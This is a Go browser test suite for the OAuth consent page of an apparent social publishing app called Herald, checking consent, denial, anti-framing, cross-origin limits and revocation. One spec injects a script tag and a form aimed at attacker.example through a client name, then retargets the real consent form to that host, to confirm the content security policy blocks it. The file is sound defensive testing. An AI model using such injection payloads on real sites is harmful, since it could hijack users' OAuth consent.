// Copyright The Herald Authors.
// SPDX-License-Identifier: Apache-2.0

package browser

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/clock"

	configv1alpha1 "github.com/herald-social/herald/api/config/v1alpha1"
	"github.com/herald-social/herald/apiserver/kube"
	"github.com/herald-social/herald/apiserver/session"
	"github.com/herald-social/herald/apiserver/signin"
	"github.com/herald-social/herald/hack/local/processes"
	"github.com/herald-social/herald/test/browser/chrome"
	"github.com/herald-social/herald/test/browser/web"
)

// These agents are just a registered client and a redirect URI. test/agents uses real clients.
var _ = Describe("An agent", Ordered, func() {
	const cursor = "cursor://anysphere.cursor-mcp/oauth/callback"

	var page *chrome.Page
	var site web.Site

	BeforeAll(func() {
		var err error
		page, err = browser.NewPage(chrome.Options{})
		must(err)
		DeferCleanup(page.Close)
		site = web.Site{Page: page, URL: herald().Site()}
		must(site.SignIn(anotherLink()))
	})

	AfterEach(func() {
		if CurrentSpecReport().Failed() {
			saveScreenshot(page)
		}
	})

	It("asks for consent on an accessible page", func() {
		redirect, answers := loopback()
		must(page.OpenCold(consentAddress("Fit for everyone", redirect)))
		expectLight(page)
		inEveryLook(page, "consent")
		must(page.WaitText("127.0.0.1"))
		must(page.Get("button", "Allow").Click())
		Expect(*answers).To(BeEmpty(), "a single click, such as one redirected from another page, grants nothing")
		must(web.ChooseLevel(page, web.MayRead))
		must(page.TabTo(page.Get("button", "Allow")))
		must(web.AllowAgent(page))
		must(page.Get("heading", "Back").Wait())
		Expect(*answers).To(HaveLen(1))
		Expect((*answers)[0]).To(And(HaveKey("code"), HaveKeyWithValue("state", []string{"s-1"}), HaveKeyWithValue("iss", []string{herald().Site()})))
		Expect(page.Problems()).To(BeEmpty(), "the content security policy allows the redirect")
	})

	It("receives a denial", func() {
		redirect, answers := loopback()
		must(page.Open(consentAddress("Refused", redirect)))
		must(web.DenyAgent(page))
		Expect((*answers)[0]).To(And(HaveKeyWithValue("error", []string{"access_denied"}), Not(HaveKey("code"))))
	})

	It("cannot embed the consent page", func() {
		redirect, _ := loopback()
		inside := consentAddress("In a frame", redirect)
		frame := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			write(w, `<!doctype html><html lang="en"><title>Frame</title><link rel="icon" href="data:,"><h1>Win</h1><iframe title="win" src="`+
				strings.ReplaceAll(inside, "&", "&amp;")+`"></iframe>`)
		}))
		DeferCleanup(frame.Close)
		must(page.Open(frame.URL))
		Eventually(page.Problems).Should(ContainElement(ContainSubstring("frame-ancestors 'none'")))
		Expect(page.Get("button", "Allow").Count()).To(BeZero())
		page.Forget()
	})

	It("can be a page on another origin with limited cross-origin access", func() {
		const client = `(async (site) => {
			const json = { "Content-Type": "application/json" };
			const refused = await fetch(site + "/mcp", { method: "POST", headers: json, body: "{}" });
			const metadata = refused.headers.get("WWW-Authenticate").match(/resource_metadata="([^"]+)"/)[1];
			const { authorization_servers: [issuer], resource } = await (await fetch(metadata)).json();
			const server = await (await fetch(issuer + "/.well-known/oauth-authorization-server")).json();
			const body = JSON.stringify({ client_name: "A page", redirect_uris: ["https://agent.example/cb"], token_endpoint_auth_method: "none" });
			const registered = await fetch(server.registration_endpoint, { method: "POST", headers: json, body });
			const form = new URLSearchParams({ grant_type: "authorization_code", code: "no", client_id: "no" });
			const token = await fetch(server.token_endpoint, { method: "POST", body: form });
			const pages = await fetch(site + "/", { credentials: "include" }).then(() => "read", () => "kept");
			return [refused.status, resource, registered.status, (await token.json()).error, pages].join(" ");
		})`
		elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			write(w, `<!doctype html><html lang="en"><title>Elsewhere</title><link rel="icon" href="data:,"><h1>Elsewhere</h1>`)
		}))
		DeferCleanup(elsewhere.Close)
		must(page.Open(elsewhere.URL))
		site := herald().Site()
		Expect(chrome.Eval[string](page, client+"("+strconv.Quote(site)+")")).To(Or(
			Equal("401 "+site+"/mcp 201 invalid_grant kept"), Equal("401 "+site+"/mcp 201 invalid_client kept")))
		page.Forget()
	})

	It("cannot inject a script or form into the consent page", func() {
		must(page.Open(consentAddress(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, cursor)))
		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "names are shown as text")
		Expect(page.Problems()).To(BeEmpty())
		_, err := chrome.Eval[any](page, `(() => { const form = document.querySelector("form[action='/oauth/authorize']"); form.action = "https://attacker.example/"; form.submit(); })()`)
		must(err)
		Eventually(page.Problems).Should(ContainElement(And(ContainSubstring("form-action"), ContainSubstring("attacker.example"))))
		page.Forget()
	})

	It("is listed with its permissions, and can be revoked", func() {
		redirect, answers := loopback()
		address := consentAddress("To be ended", redirect)
		must(page.Open(address))
		must(web.ChooseLevel(page, web.MayDraft))
		must(web.AllowAgent(page))
		redeem(address, redirect, (*answers)[0].Get("code"))

		must(page.OpenCold(herald().Site() + "/teams/herald-demo/agents"))
		expectLight(page)
		inEveryLook(page, "agents")
		card := page.GetSaying("listitem", "To be ended")
		must(card.Wait())
		Expect(card.Text()).To(ContainSubstring(web.MayDraft))
		must(site.RevokeAgent("To be ended"))
		Expect(page.Problems()).To(BeEmpty())
		Expect(card.Get("button", "Revoke").Count()).To(BeZero())
		inEveryLook(page, "agents-ended")
	})

	// Keep this spec last: the browser asks whether it may open the application, and no longer accepts clicks.
	It("receives the redirect as an application on the user's machine", func() {
		must(page.Open(consentAddress("An editor", cursor)))
		must(page.WaitText("cursor:"))
		must(web.ChooseLevel(page, web.MayRead))
		must(page.Get("button", "Allow").Click())
		Eventually(page.Opened).Should(ContainElement(And(HavePrefix(cursor+"?"), ContainSubstring("code="), ContainSubstring("state=s-1"))))
		for _, problem := range page.Forget() {
			Expect(problem).NotTo(ContainSubstring("Content Security Policy"))
		}
	})
})

// consentAddress registers a client and returns the URL that it sends the user to.
func consentAddress(name, redirect string) string {
	GinkgoHelper()
	body, err := json.Marshal(map[string]any{"client_name": name, "redirect_uris": []string{redirect}, "token_endpoint_auth_method": "none"})
	must(err)
	response, err := http.Post(herald().Site()+"/oauth/register", "application/json", strings.NewReader(string(body)))
	must(err)
	defer response.Body.Close()
	Expect(response).To(HaveHTTPStatus(http.StatusCreated))
	var client struct {
		ID string `json:"client_id"`
	}
	must(json.NewDecoder(response.Body).Decode(&client))
	return herald().Site() + "/oauth/authorize?" + url.Values{
		"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"}, "state": {"s-1"}, "scope": {"read draft publish"},
		"code_challenge": {challenge}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
	}.Encode()
}

// loopback starts a client that listens on this machine, until the spec ends.
func loopback() (redirect string, answers *[]url.Values) {
	answers = &[]url.Values{}
	client := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		*answers = append(*answers, r.URL.Query())
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		write(w, `<!doctype html><html lang="en"><title>Back</title><link rel="icon" href="data:,"><h1>Back</h1>`)
	}))
	DeferCleanup(client.Close)
	return client.URL + "/callback", answers
}

// redeem exchanges a code for tokens, as the client does. The grant is stored only by this exchange.
func redeem(authorize, redirect, code string) {
	GinkgoHelper()
	asked, err := url.Parse(authorize)
	must(err)
	response, err := http.PostForm(herald().Site()+"/oauth/token", url.Values{
		"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {redirect}, "client_id": {asked.Query().Get("client_id")},
		"code_verifier": {verifier}, "resource": {asked.Query().Get("resource")},
	})
	must(err)
	must(response.Body.Close())
	Expect(response).To(HaveHTTPStatus(http.StatusOK))
}

// verifier and challenge are the example in RFC 7636, appendix B.
const (
	verifier  = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
	challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
)

// anotherLink creates a second one-time sign-in link.
func anotherLink() string {
	GinkgoHelper()
	config, err := clientcmd.BuildConfigFromFlags("", herald().Variable("KUBECONFIG"))
	must(err)
	secrets, err := kube.NewSecrets(config, "herald-test", processes.SystemNamespace)
	must(err)
	token, err := session.AddLink(context.Background(), secrets, configv1alpha1.DefaultSignInSecret, clock.RealClock{}, time.Hour)
	must(err)
	return herald().Site() + signin.LinkPath + token
}
